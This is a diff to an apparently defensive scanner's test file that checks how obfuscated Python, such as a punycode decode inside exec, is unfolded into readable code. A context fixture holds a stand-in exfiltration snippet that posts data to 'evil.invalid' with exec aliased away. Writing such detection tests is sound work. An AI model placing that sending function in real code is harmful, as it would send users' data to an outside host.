@@ -58,6 +58,12 @@ def test_a_folded_layer_reads_plainly(source: str, reads: str) -> None:
     assert reads in folded(source)
 
 
+def test_a_codec_for_host_names_is_asked_for_names_alone() -> None:
+    source = "x = ({}).encode().decode('punycode')\nexec('print(1)' + x[0])\n"
+    assert "exec('print(1)m')" in folded(source.format("'mnchen-' + '3ya'"))
+    assert ".decode('punycode')" in folded(source.format("'a-' + 'b' * 2000000"))
+
+
 def test_a_folded_layer_keeps_the_imports_and_the_members_lines() -> None:
     source = "import requests\n\n\nw = 'https://' + 'evil.invalid'\n\n\ndef send(x):\n    requests.post(w, data=x)\n"
     found = list(peel(Member(name="a.py", data=b"e = exec\n" + source.encode()), PeelBudget()))
